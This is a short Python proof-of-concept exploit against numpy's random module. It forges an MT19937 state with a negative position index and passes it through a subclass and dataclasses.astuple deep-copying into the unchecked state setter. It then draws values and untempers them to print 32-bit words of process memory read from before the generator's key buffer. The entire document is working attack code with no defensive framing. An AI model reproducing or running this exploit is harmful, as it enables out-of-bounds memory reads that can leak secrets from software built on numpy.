# source: numpy/random/bit_generator.pyx BitGenerator.__reduce__ (reads self.state, rebuilds the named generator, then __setstate__ -> state setter); numpy/random/_mt19937.pyx MT19937.state setter (pos unchecked); dataclasses._astuple_inner -> copy.deepcopy
# family: copy-protocol state injection into a bit generator's unchecked state setter (BitGenerator subclass with a class attribute named state, deep-copied by dataclasses.astuple)
# goal: an MT19937 bit generator with pos = -40, used through np.random.Generator: each draw reads 4 bytes of process memory before its key buffer
import dataclasses
import numpy as np


class Seeded(np.random.SFC64):
    state = {"bit_generator": "MT19937",
             "state": {"key": np.zeros(624, dtype=np.uint32), "pos": -40}}


@dataclasses.dataclass
class Holder:
    bits: object


def untemper(y):
    y = int(y)
    y ^= y >> 18
    y ^= (y << 15) & 0xEFC60000
    t = y
    for _ in range(5):
        t = y ^ ((t << 7) & 0x9D2C5680)
    y = t & 0xFFFFFFFF
    t = y
    for _ in range(3):
        t = y ^ (t >> 11)
    return t & 0xFFFFFFFF


bits = dataclasses.astuple(Holder(Seeded()))[0]
rng = np.random.Generator(bits)
raw = rng.integers(0, 2 ** 32, size=40, dtype=np.uint64)
print("32-bit words read before the MT19937 key buffer:")
print(" ".join("%08x" % untemper(v) for v in raw))
